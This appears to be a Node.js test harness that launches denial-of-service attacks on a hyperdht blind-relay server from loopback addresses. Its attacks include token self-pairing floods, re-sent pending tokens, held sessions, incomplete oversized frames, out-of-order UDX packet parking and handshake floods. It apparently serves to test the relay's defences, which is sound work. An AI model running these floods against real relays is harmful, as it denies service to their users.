// Hostile-but-valid peers against a blind relay (issue #13's attacks), from many loopback addresses.
// usage: node js/relay_attack.js '<json>'   json: {bootstrap, relay, attack, hosts: ["127.0.0.2", ...], ...}
// Every peer is a real hyperdht connection (its own key pair) from a DHT node bound to one of `hosts`,
// speaking blind-relay through npm blind-relay's Client channel; only the messages are hostile:
//   selfpair   {sessions, pairs, interval?, early?}: each session pairs `pairs` fresh tokens with
//              itself (both sides), sent as raw `pair` messages; with `interval` (ms) it pairs that
//              many fresh tokens again every interval (so reaping never empties the cap); with `early`
//              it sends that many 1,200-byte UDX data packets to one side's relay stream, from its
//              own address, so the relay holds them for the partner stream that never speaks
//   pending    {sessions, pairs, interval}: each session sends `pairs` pending tokens and re-sends
//              the same ones every `interval` ms (a token the relay dropped comes right back)
//   hold       {sessions, keep?, frame?, frameSend?}: open sessions and hold them with keep-alives
//              only; with `keep` (ms) each session also pairs one fresh token with itself every
//              `keep` ms, so it is never idle and the relay's idle reaping cannot close it; with
//              `frame` it then leaves an incomplete frame (announces `frame` bytes, sends
//              `frameSend`, default frame - 1) that the relay can only hold
//   bigframe   {sessions, frame, send}: each session announces a `frame`-byte secret-stream frame on
//              its raw stream and sends `send` bytes of it, never completing it
//   ooo        {sessions, packets, size}: each session sends `packets` UDX data packets of `size`
//              payload bytes on its control stream, all above a sequence gap that is never filled,
//              so the relay can only park them out of order (or drop them)
//   handshakes {rate, seconds}: valid handshakes at `rate`/s spread over the hosts for `seconds`,
//              each connection held (the relay decides what to keep); ready as soon as it starts
//   any session of selfpair, pending or hold also takes {ooo: n}: first park n packets as ooo does
//   combined   {parts: [{attack, hosts, ...}, ...]}: all the parts above at once, each from its
//              own hosts; ready once every part is in place
// Prints {"ready": true, "opened": n, "closed": n, "sent": n} once the attack is in place, then keeps
// it up (re-sending, reconnecting nothing) until stdin closes; on exit prints a final
// {"done": true, "opened": n, "closed": n} line (closed = connections the relay ended).
const DHT = require('hyperdht')
const relay = require('blind-relay')
const id = require('hypercore-id-encoding')
const b4a = require('b4a')

const opts = JSON.parse(process.argv[2])
const bootstrap = opts.bootstrap.map((b) => typeof b === 'string' ? b : `${b.host}:${b.port}`)
const relayKey = id.decode(opts.relay)
const counts = { opened: 0, closed: 0, sent: 0, failed: 0 }
const sockets = []
const timers = []
const nodes = new Map() // host -> DHT node

function rid () { return (Math.random() * 0xffffffff) >>> 0 }
function tick () { return new Promise((resolve) => setImmediate(resolve)) }

async function nodeFor (host) {
  if (!nodes.has(host)) {
    nodes.set(host, (async () => {
      const node = new DHT({ bootstrap, ephemeral: true, quickFirewall: false, host, port: [0, 0] })
      await node.fullyBootstrapped()
      return node
    })())
  }
  return nodes.get(host)
}

async function open (node) {
  const socket = node.connect(relayKey, { keyPair: DHT.keyPair() })
  socket.on('error', () => {})
  sockets.push(socket)
  socket.once('close', () => { if (socket._opened) counts.closed++ })
  await new Promise((resolve, reject) => {
    socket.once('open', () => { socket._opened = true; counts.opened++; resolve() })
    socket.once('close', () => reject(new Error('closed before open')))
  })
  return socket
}

function channel (socket) {
  const client = relay.Client.from(socket, { id: socket.publicKey })
  client.on('error', () => {})
  return client
}

function send (client, isInitiator, token) {
  if (client.closed) return
  client._pair.send({ isInitiator, token, id: rid(), seq: 0 })
  counts.sent++
}

// A raw UDX packet: magic, version, type, data offset, id, rwnd, seq, ack (little endian).
// ack 0 is behind anything the relay sent, so it is never "an ack of what was never sent".
function udxPacket (type, streamId, seq, payload) {
  const buf = b4a.alloc(20 + payload.byteLength)
  buf[0] = 0xff; buf[1] = 1; buf[2] = type; buf[3] = 0
  buf.writeUInt32LE(streamId >>> 0, 4)
  buf.writeUInt32LE(4 * 1024 * 1024, 8)
  buf.writeUInt32LE(seq >>> 0, 12)
  buf.writeUInt32LE(0, 16)
  buf.set(payload, 20)
  return buf
}

function rawSend (socket, streamId, seq, payload) {
  const raw = socket.rawStream
  if (!raw || !raw.socket || socket.destroyed) return // the relay closed it: nothing to send on
  raw.socket.trySend(udxPacket(1, streamId, seq, payload), raw.remotePort, raw.remoteHost)
  counts.sent++
}

// A secret-stream frame header announcing `frame` bytes, then `send` bytes of it, on the raw stream.
function partialFrame (socket, frame, send) {
  const head = b4a.alloc(3)
  head[0] = frame & 0xff; head[1] = (frame >> 8) & 0xff; head[2] = (frame >> 16) & 0xff
  socket.rawStream.write(head)
  let left = send
  while (left > 0) {
    const n = Math.min(left, 60000)
    socket.rawStream.write(b4a.alloc(n, 0x41))
    counts.sent += n
    left -= n
  }
}

async function selfpair (client, socket, p) {
  const early = p.early || 0
  if (early) {
    const payload = b4a.alloc(1200, 0x42)
    const onpair = client._pair.onmessage
    client._pair.onmessage = (m, session) => {
      // the relay's reply to our non-initiator side: its stream id; feed it packets nobody relays
      if (!m.isInitiator) for (let i = 0; i < early; i++) rawSend(socket, m.id, i, payload)
      return onpair(m, session)
    }
  }
  const burst = async () => {
    for (let i = 0; i < (p.pairs || 100); i++) {
      const token = relay.token()
      send(client, true, token)
      send(client, false, token)
      if (i % 50 === 49) await tick()
    }
  }
  await burst()
  if (p.interval) timers.push(setInterval(burst, p.interval))
}

async function session (p, host, s) {
  try {
    await sessionAttack(p, await open(await nodeFor(host)))
  } catch {
    counts.failed++ // not opened, or the relay closed it mid-attack: the others go on
  }
}

async function sessionAttack (p, socket) {
  const attack = p.attack
  if (attack === 'bigframe') {
    partialFrame(socket, p.frame || (16 * 1024 * 1024 - 1), p.send || 1024 * 1024)
    return
  }
  const ooo = attack === 'ooo' ? (p.packets || 256) : (p.ooo || 0)
  if (ooo) {
    // far above anything the stream sent so far (a few packets), within the relay's 4,096 window
    const payload = b4a.alloc(p.size || 1200, 0x43)
    for (let i = 0; i < ooo; i++) {
      rawSend(socket, socket.rawStream.remoteId, 1024 + i, payload)
      if (i % 64 === 63) await tick()
    }
  }
  if (attack === 'ooo') return
  const client = channel(socket)
  await new Promise((resolve) => client.once('open', resolve).once('close', resolve))
  if (attack === 'selfpair') {
    await selfpair(client, socket, p)
  } else if (attack === 'pending') {
    const tokens = Array.from({ length: p.pairs || 64 }, () => relay.token())
    const burst = () => { for (const t of tokens) send(client, true, t) }
    burst()
    timers.push(setInterval(burst, p.interval || 2000))
  } else if (attack === 'hold' && p.keep) {
    const again = () => { const t = relay.token(); send(client, true, t); send(client, false, t) }
    again()
    timers.push(setInterval(again, p.keep))
  }
  if (attack === 'hold' && p.frame) {
    // then an incomplete frame: announce `frame` bytes, send `frameSend` of them (the relay holds
    // them until the frame completes; every later message of this session is swallowed by it)
    await new Promise((resolve) => setTimeout(resolve, 100)) // the pair above leaves first
    partialFrame(socket, p.frame, p.frameSend || p.frame - 1)
  }
  // 'hold': nothing more; hyperdht's keep-alives hold the connection
}

async function part (p) {
  const hosts = p.hosts || ['127.0.0.2']
  await Promise.all(hosts.map(nodeFor))
  if (p.attack === 'handshakes') {
    const rate = p.rate || 100
    const end = Date.now() + (p.seconds || 5) * 1000
    let i = 0
    const t = setInterval(() => {
      if (Date.now() >= end) { clearInterval(t); return }
      for (let k = 0; k < Math.max(1, Math.round(rate / 20)); k++) {
        nodeFor(hosts[i++ % hosts.length]).then(open).catch(() => { counts.failed++ })
      }
    }, 50)
    timers.push(t) // ready at once: the flood goes on for `seconds` while the caller measures
    return
  }
  const sessions = p.sessions || 1
  // at most `p.parallel` connects in flight (default all): thousands at once starve the event loop
  const parallel = Math.min(sessions, p.parallel || sessions)
  let next = 0
  await Promise.all(Array.from({ length: parallel }, async () => {
    while (next < sessions) {
      const s = next++
      await session(p, hosts[s % hosts.length], s)
    }
  }))
}

async function main () {
  const parts = opts.attack === 'combined' ? opts.parts : [opts]
  await Promise.all(parts.map(part))
  await new Promise((resolve) => setTimeout(resolve, 200)) // let the writes leave
  process.stdout.write(JSON.stringify({ ready: true, ...counts }) + '\n')
  const stop = async () => {
    for (const t of timers) clearInterval(t)
    process.stdout.write(JSON.stringify({ done: true, ...counts }) + '\n')
    for (const s of sockets) s.destroy()
    await Promise.all([...nodes.values()].map(async (n) => (await n).destroy()))
    process.exit(0)
  }
  process.stdin.on('end', stop)
  process.stdin.resume()
}

main().catch((err) => { console.error(err); process.exit(1) })
